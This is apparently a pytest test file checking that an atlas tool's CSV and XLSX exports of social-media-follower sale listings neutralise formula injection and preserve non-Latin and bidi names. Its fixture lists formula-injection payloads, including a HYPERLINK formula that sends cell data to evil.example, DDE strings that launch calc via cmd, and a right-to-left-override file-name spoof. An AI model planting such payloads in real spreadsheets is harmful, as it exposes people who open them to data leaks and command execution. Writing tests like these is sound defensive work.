"""Exports that open safely (issue 11): CSV and XLSX of an atlas holding hostile names are
read back with Python's csv module and openpyxl; every cell that would run as a formula is
neutralised (OWASP: a leading quote), every non-Latin name is intact, bidi overrides are
visible, and --domain is honoured by every format."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from helpers import run_cli

NOW = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NON_LATIN = [
    "Подписчики Instagram 1000 [Гарантия]",
    "इंस्टाग्राम फॉलोअर्स - भारतीय",
    "متابعين انستقرام حقيقيين",
    "𝐑𝗘𝗔𝗟 Instagram Followers 🔥 [Max 50k]",
    "Instagram Takipçi %100 Türk",
]
RLO = "Followers \u202etxt.exe"


@pytest.fixture
def hostile_atlas(tmp_path) -> str:
    from storage.db import open_db
    from storage.models import Capture, Contact, Offer, Payment, Portal

    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    engine, sessions = open_db(url)
    with sessions() as s:
        for domain in ("hostile.example", "other.example"):
            p = Portal(domain=domain, url=f"http://{domain}/", status="active", kind="panel",
                       first_seen=NOW, last_seen=NOW)  # fmt: skip
            s.add(p)
            s.flush()
            c = Capture(portal_id=p.id, url=f"http://{domain}/services", sha256="ab" * 32,
                        http_status=200, length=10, fetched_at=NOW,
                        last_fetched_at=NOW)  # fmt: skip
            s.add(c)
            s.flush()
            names = [*DANGEROUS, *NON_LATIN, RLO] if domain == "hostile.example" else ["Likes"]
            for i, name in enumerate(names):
                s.add(
                    Offer(
                        portal_id=p.id,
                        key=str(i),
                        service_id=str(i),
                        name=name,
                        category="=1+2" if i == 0 else None,
                        platform="instagram",
                        product="followers",
                        price=74.5,
                        currency="INR",
                        per=1000,
                        kind="rate",
                        url=c.url,
                        capture_id=c.id,
                        first_seen=NOW,
                        last_seen=NOW,
                    )  # fmt: skip
                )
            s.add(Payment(portal_id=p.id, capture_id=c.id, method="upi", account="=evil@okaxis",
                          url=c.url, first_seen=NOW, last_seen=NOW))  # fmt: skip
            s.add(Contact(portal_id=p.id, capture_id=c.id, kind="telegram", value="@handle",
                          url=c.url, first_seen=NOW, last_seen=NOW))  # fmt: skip
        s.commit()
    engine.dispose()
    return url


def expected(name: str) -> str:
    shown = name.replace("\u202e", "[U+202E]")
    return "'" + shown if shown[:1] in ("=", "+", "-", "@", "\t", "\r") else shown


def test_cells_neutralise_formulas_and_keep_numbers():
    from atlas.cells import safe_cell

    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("-5") == "'-5"  # text that a spreadsheet would read as a formula
    assert safe_cell(-5) == -5 and safe_cell(0.5) == 0.5 and safe_cell(None) == ""
    assert safe_cell("a\u202eb\u2066c") == "a[U+202E]b[U+2066]c"
    assert safe_cell("a\x07b") == "a[U+0007]b"
    for name in NON_LATIN:
        assert safe_cell(name) == name


def test_csv_export_is_safe_and_keeps_names(hostile_atlas, tmp_path):
    out = tmp_path / "offers.csv"
    proc = run_cli("export", "--format", "csv", "--bom", "--db", hostile_atlas, "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    names = {r["name"] for r in rows if r["domain"] == "hostile.example"}
    assert names == {expected(n) for n in [*DANGEROUS, *NON_LATIN, RLO]}
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {r["category"] for r in rows} >= {"'=1+2"}
    assert {r["price_usd_per_1000"] for r in rows} == {"1.0"}  # 74.5 INR at 74.5 per USD
    assert {r["capture_sha256"] for r in rows} == {"ab" * 32}
    assert all(r["captured_at"].endswith("Z") for r in rows)
    # without --bom: plain UTF-8; --domain is honoured
    proc = run_cli("export", "--format", "csv", "--domain", "other.example", "--db", hostile_atlas)
    assert not proc.stdout.startswith("\ufeff")
    assert [r["domain"] for r in csv.DictReader(io.StringIO(proc.stdout))] == ["other.example"]


def test_xlsx_export_is_safe_and_keeps_names(hostile_atlas, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "atlas.xlsx"
    proc = run_cli("export", "--format", "xlsx", "--db", hostile_atlas, "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    wb = load_workbook(out)
    assert {"portals", "offers", "payments", "contacts", "identifiers", "evidence"} <= set(
        wb.sheetnames
    )
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    offers = list(wb["offers"].values)
    header, body = offers[0], offers[1:]
    name_at, usd_at = header.index("name"), header.index("price_usd_per_1000")
    names = {r[name_at] for r in body if r[0] == "hostile.example"}
    assert names == {expected(n) for n in [*DANGEROUS, *NON_LATIN, RLO]}
    assert {r[usd_at] for r in body} == {1.0}
    payments = list(wb["payments"].values)
    assert payments[1][2] == "'=evil@okaxis"
    contacts = list(wb["contacts"].values)
    assert contacts[1][2] == "'@handle"
    # --domain honoured
    proc = run_cli("export", "--format", "xlsx", "--domain", "other.example",
                   "--db", hostile_atlas, "-o", str(out))  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    wb = load_workbook(out)
    assert [r[0] for r in list(wb["portals"].values)[1:]] == ["other.example"]


def test_json_export_honours_domain_and_keeps_names_as_they_are(hostile_atlas):
    proc = run_cli("export", "--format", "json", "--domain", "hostile.example",
                   "--db", hostile_atlas)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    portals = json.loads(proc.stdout)["portals"]
    assert [p["domain"] for p in portals] == ["hostile.example"]
    names = {o["name"] for o in portals[0]["offers"]}
    assert names == {*DANGEROUS, *NON_LATIN, RLO}  # JSON is data, not a spreadsheet
    assert {o["price_usd_per_1000"] for o in portals[0]["offers"]} == {1.0}
